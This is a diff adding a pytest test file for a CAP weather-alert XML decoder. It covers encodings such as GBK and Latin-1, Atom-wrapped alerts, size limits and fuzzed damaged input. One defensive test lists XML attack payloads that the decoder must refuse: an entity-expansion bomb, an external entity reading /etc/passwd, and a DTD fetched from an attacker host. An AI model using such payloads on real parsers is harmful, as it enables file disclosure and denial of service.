@@ -1,0 +1,190 @@
+"""Documents are decoded whole, whatever their encoding, and attacks are refused."""
+
+import contextlib
+from collections.abc import Callable
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from adapters.sdk.adapter import Translated
+from adapters.sdk.errors import Untranslatable
+from adapters.sdk.message import Undecodable
+from adapters.weather.cap import Cap, CapDecoder, CapDocument
+
+Write = Callable[..., bytes]
+Read = Callable[[bytes], list[Translated]]
+
+ALERT = '<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">{}</alert>'
+
+
+def _decode(document: bytes, limit: int = 1 << 22) -> list[CapDocument | Undecodable]:
+    """Decode a document at once."""
+    decoder = CapDecoder(limit)
+    return [*decoder.feed(document), *decoder.close()]
+
+
+def _refused(document: bytes, limit: int = 1 << 22) -> Undecodable:
+    """Decode a document that must be refused, whole."""
+    (found,) = _decode(document, limit)
+    assert isinstance(found, Undecodable)
+    return found
+
+
+@pytest.mark.parametrize(
+    ("declared", "stored"),
+    [
+        ("UTF-8", "utf-8"),
+        ("UTF-8", "utf-8-sig"),
+        ("GBK", "gb18030"),
+        ("GB2312", "gb18030"),
+        ("gb2312", "utf-8"),
+        ("UTF-8", "gb18030"),
+        ("UTF-16", "utf-16"),
+    ],
+)
+def test_encodings_are_settled(rainstorm: Write, read: Read, declared: str, stored: str) -> None:
+    """What is declared is not always what is stored; what is stored counts."""
+    text = rainstorm().decode().replace('encoding="UTF-8"', f'encoding="{declared}"')
+
+    (translated,) = read(text.encode(stored))
+
+    assert translated.record.weather_warning.event == "暴雨"
+
+
+def test_gbk_without_a_declaration_is_read(rainstorm: Write, read: Read) -> None:
+    """Real files declare no encoding and are stored in GBK."""
+    text = rainstorm().decode().partition("\n")[2]
+
+    (translated,) = read(text.encode("gbk"))
+
+    assert translated.record.location.areas[0].description == "南京市"
+
+
+def test_latin_1_is_read_as_declared(rainstorm: Write, read: Read) -> None:
+    """A declared encoding of one byte a character is taken at its word."""
+    info = (
+        "<info><event>S\u00e9isme \u00e0 Usulut\u00e1n</event><urgency>Past</urgency>"
+        "<severity>Minor</severity><certainty>Likely</certainty></info>"
+    )
+    document = rainstorm(info=info, encoding="ISO-8859-1")
+
+    assert read(document)[0].record.weather_warning.event == "Séisme à Usulután"
+
+
+@pytest.mark.parametrize(
+    "prolog",
+    [
+        '<!DOCTYPE alert [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>',
+        '<!DOCTYPE alert [<!ENTITY f SYSTEM "file:///etc/passwd">]>',
+        '<!DOCTYPE alert SYSTEM "http://attacker.example/evil.dtd">',
+        "<!DOCTYPE alert>",
+    ],
+)
+def test_document_types_and_entities_are_refused(prolog: str) -> None:
+    """An alert needs neither, and both are how parsers are attacked."""
+    refused = _refused((prolog + ALERT.format("<identifier>&b;</identifier>")).encode())
+
+    assert refused.cause == "xml_attack"
+    assert "document type" in refused.reason
+
+
+@pytest.mark.parametrize("body", ["<a>" * 500 + "</a>" * 500, "<a/>" * 100_001])
+def test_trees_beyond_bounds_are_refused(body: str) -> None:
+    """Depth and number of elements are bounded."""
+    assert _refused(ALERT.format(body).encode()).cause == "xml_attack"
+
+
+@pytest.mark.parametrize(
+    ("document", "cause"),
+    [
+        (b"not XML", "xml"),
+        (b"<alert>", "xml"),
+        (b"   ", "xml"),
+        (ALERT.format("&unknown;").encode(), "xml"),
+        (b"<alert>\xff\xff</alert>", "encoding"),
+        (b'<?xml version="1.0" encoding="rot13"?><alert/>', "encoding"),
+        (b"<html><body>404</body></html>", "not_cap"),
+        ('<?xml version="1.0"?><params zh="总碳"/>'.encode("gbk"), "not_cap"),
+    ],
+)
+def test_what_is_no_alert_is_refused_with_a_reason(document: bytes, cause: str) -> None:
+    """The raw bytes are kept, with a sentence for people."""
+    refused = _refused(document)
+
+    assert (refused.cause, refused.raw) == (cause, document)
+    assert "expected" in refused.reason
+
+
+def test_a_document_beyond_the_limit_is_cut(rainstorm: Write) -> None:
+    """Memory is bounded whatever is sent."""
+    document = rainstorm()
+
+    refused = _refused(document, limit=100)
+
+    assert (refused.cause, refused.raw) == ("oversize", document[:100])
+
+
+def test_an_empty_file_holds_nothing() -> None:
+    """No bytes, no message."""
+    assert _decode(b"") == []
+
+
+def test_alerts_inside_other_formats_are_found(rainstorm: Write, read: Read) -> None:
+    """Atom, SOAP and EDXL-DE carry alerts; each is a message of its own."""
+    alerts = [rainstorm(name).decode().partition("\n")[2] for name in ("A-1", "A-2")]
+    entries = "".join(f"<entry><content>{alert}</content></entry>" for alert in alerts)
+    feed = f'<feed xmlns="http://www.w3.org/2005/Atom">{entries}</feed>'
+
+    found = read(feed.encode())
+
+    assert [one.record.weather_warning.identifier for one in found] == ["A-1", "A-2"]
+
+
+def test_a_signature_does_no_harm(rainstorm: Write, read: Read) -> None:
+    """A signed alert is read; nobody claims to have verified it."""
+    signature = '<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><X>1</X></Signature>'
+    document = rainstorm().replace(b"</alert>", f"{signature}</alert>".encode())
+
+    assert len(read(document)) == 1
+
+
+@given(st.binary(max_size=300), st.lists(st.integers(1, 20), max_size=20))
+def test_any_bytes_in_any_pieces_decode_alike(document: bytes, sizes: list[int]) -> None:
+    """The decoder never raises, and how bytes arrive changes nothing."""
+    decoder, rest = CapDecoder(128), document
+    for size in sizes:
+        decoder.feed(rest[:size])
+        rest = rest[size:]
+    decoder.feed(rest)
+    pieces, whole = decoder.close(), _decode(document, limit=128)
+
+    assert all(isinstance(found, Undecodable) for found in pieces)
+    assert pieces == whole
+
+
+@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(
+    st.tuples(
+        st.integers(0, 2000),
+        st.integers(0, 30),
+        st.text("<>/&;,. 0123456789-:T+ABalertinfo红\\", max_size=12),
+    ),
+    st.booleans(),
+)
+def test_damaged_alerts_raise_nothing_but_their_own_error(
+    cap: Cap,
+    rainstorm: Write,
+    chinese: Write,
+    damage: tuple[int, int, str],
+    is_chinese: bool,
+) -> None:
+    """Whatever is wrong with an alert, it becomes records or goes to quarantine."""
+    at, cut, new = damage
+    text = (chinese() if is_chinese else rainstorm()).decode()
+    document = (text[:at] + new + text[at + cut :]).encode()
+
+    for found in _decode(document):
+        if isinstance(found, CapDocument):
+            with contextlib.suppress(Untranslatable):
+                assert list(cap.translate(found))
